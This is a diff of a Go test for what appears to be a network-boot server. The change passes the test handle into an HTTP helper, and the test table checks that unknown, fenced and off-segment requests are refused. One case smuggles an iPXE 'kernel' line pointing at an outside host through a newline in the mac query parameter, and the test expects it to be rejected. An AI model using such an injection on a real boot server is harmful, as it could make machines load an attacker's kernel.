@@ -408,7 +408,7 @@ func TestComposeHost(t *testing.T) {
 
 	// The refusals, in order: the failover comes before the refusals of a fenced host.
 	var nonce string
-	httpStatus := func(c *http.Client, u string) string {
+	httpStatus := func(t *testing.T, c *http.Client, u string) string {
 		st, body := get(t, c, u)
 		if strings.Contains(body, ipxe.ParamToken) || strings.Contains(body, "/cache/t/") {
 			return fmt.Sprintf("%d with a secret", st)
@@ -447,11 +447,11 @@ func TestComposeHost(t *testing.T) {
 		n    map[string]uint64
 	}{
 		{"no-nonce: a script request naming only a known MAC", func(t *testing.T) string {
-			return httpStatus(machine, httpBase+ipxe.PathBoot+"?mac="+known.String())
+			return httpStatus(t, machine, httpBase+ipxe.PathBoot+"?mac="+known.String())
 		}, "404", map[string]uint64{"bootbind/no-nonce": 1, "ipxe/unbound": 1}},
 		{"nonce-other-address: a bystander presents the machine's nonce first", func(t *testing.T) string {
 			nonce = nonceOf(t, askDHCP(t, dhcpv4.MessageTypeRequest, pxe, machineIP, machineIP, known, uuidOf(1), 2*time.Second))
-			return httpStatus(bystander, scriptURL(1, netip.Addr{}, nonce))
+			return httpStatus(t, bystander, scriptURL(1, netip.Addr{}, nonce))
 		}, "404", map[string]uint64{"dhcp-4011/answered": 1, "bootbind/nonce-other-address": 1, "ipxe/unbound": 1}},
 		{"the machine itself still boots with that nonce", func(t *testing.T) string {
 			st, _ := get(t, machine, scriptURL(1, machineIP, nonce))
@@ -461,22 +461,22 @@ func TestComposeHost(t *testing.T) {
 			return dhcpAnswer(askDHCP(t, dhcpv4.MessageTypeRequest, pxe, strangerIP, strangerIP, stranger, uuidOf(3), 500*time.Millisecond))
 		}, "silence", map[string]uint64{"dhcp-4011/unknown": 1}},
 		{"unknown machine: script", func(t *testing.T) string {
-			return httpStatus(clientFrom(strangerIP), scriptURL(3, strangerIP, ""))
+			return httpStatus(t, clientFrom(strangerIP), scriptURL(3, strangerIP, ""))
 		}, "404", map[string]uint64{"ipxe/unknown": 1}},
 		{"off-segment: a requester whose answer would go to another network", func(t *testing.T) string {
 			return dhcpAnswer(askDHCP(t, dhcpv4.MessageTypeDiscover, dhcp, machineIP, netip.MustParseAddr("198.51.100.77"), known, uuidOf(1), 500*time.Millisecond))
 		}, "silence", map[string]uint64{"dhcp-67/off-segment": 1}},
 		{"injected query: a script request that tries to add a command", func(t *testing.T) string {
-			return httpStatus(machine, httpBase+ipxe.PathBoot+"?mac="+known.String()+"%0Akernel%20http://203.0.113.9/x")
+			return httpStatus(t, machine, httpBase+ipxe.PathBoot+"?mac="+known.String()+"%0Akernel%20http://203.0.113.9/x")
 		}, "400", map[string]uint64{"ipxe/bad-request": 1}},
 		{"guessed grant over HTTP", func(t *testing.T) string {
-			return httpStatus(machine, httpBase+"/cache/t/"+guess+"/"+digestOf(kernel).String())
+			return httpStatus(t, machine, httpBase+"/cache/t/"+guess+"/"+digestOf(kernel).String())
 		}, "404", map[string]uint64{"cache/unknown-grant": 1}},
 		{"guessed grant over TFTP", func(t *testing.T) string {
 			return tftpError(t, "t/"+guess+"/"+digestOf(kernel).String())
 		}, "file not found", map[string]uint64{"cache/unknown-grant": 1, "tftp/not-found": 1}},
 		{"plain /cache/SHA256 without a grant", func(t *testing.T) string {
-			return httpStatus(machine, httpBase+"/cache/"+digestOf(kernel).String())
+			return httpStatus(t, machine, httpBase+"/cache/"+digestOf(kernel).String())
 		}, "404", map[string]uint64{"cache/malformed": 1}},
 		{"replayed assertion", func(t *testing.T) string { return verify(used, joinOf(1)) },
 			"replay", map[string]uint64{"assertion/replay": 1}},
@@ -489,10 +489,10 @@ func TestComposeHost(t *testing.T) {
 			return dhcpAnswer(askDHCP(t, dhcpv4.MessageTypeRequest, pxe, machineIP, machineIP, known, uuidOf(1), 500*time.Millisecond))
 		}, "silence", map[string]uint64{"dhcp-4011/fenced": 1}},
 		{"fenced: script, with a nonce the machine holds", func(t *testing.T) string {
-			return httpStatus(machine, scriptURL(1, machineIP, nonce))
+			return httpStatus(t, machine, scriptURL(1, machineIP, nonce))
 		}, "503", map[string]uint64{"ipxe/fenced": 1}},
 		{"fenced: the machine's own grant", func(t *testing.T) string {
-			return httpStatus(machine, httpBase+"/cache/"+grant+digestOf(kernel).String())
+			return httpStatus(t, machine, httpBase+"/cache/"+grant+digestOf(kernel).String())
 		}, "503", map[string]uint64{"cache/fenced": 1}},
 		{"fenced: the machine's own grant over TFTP", func(t *testing.T) string {
 			return tftpError(t, grant+digestOf(initrd).String())
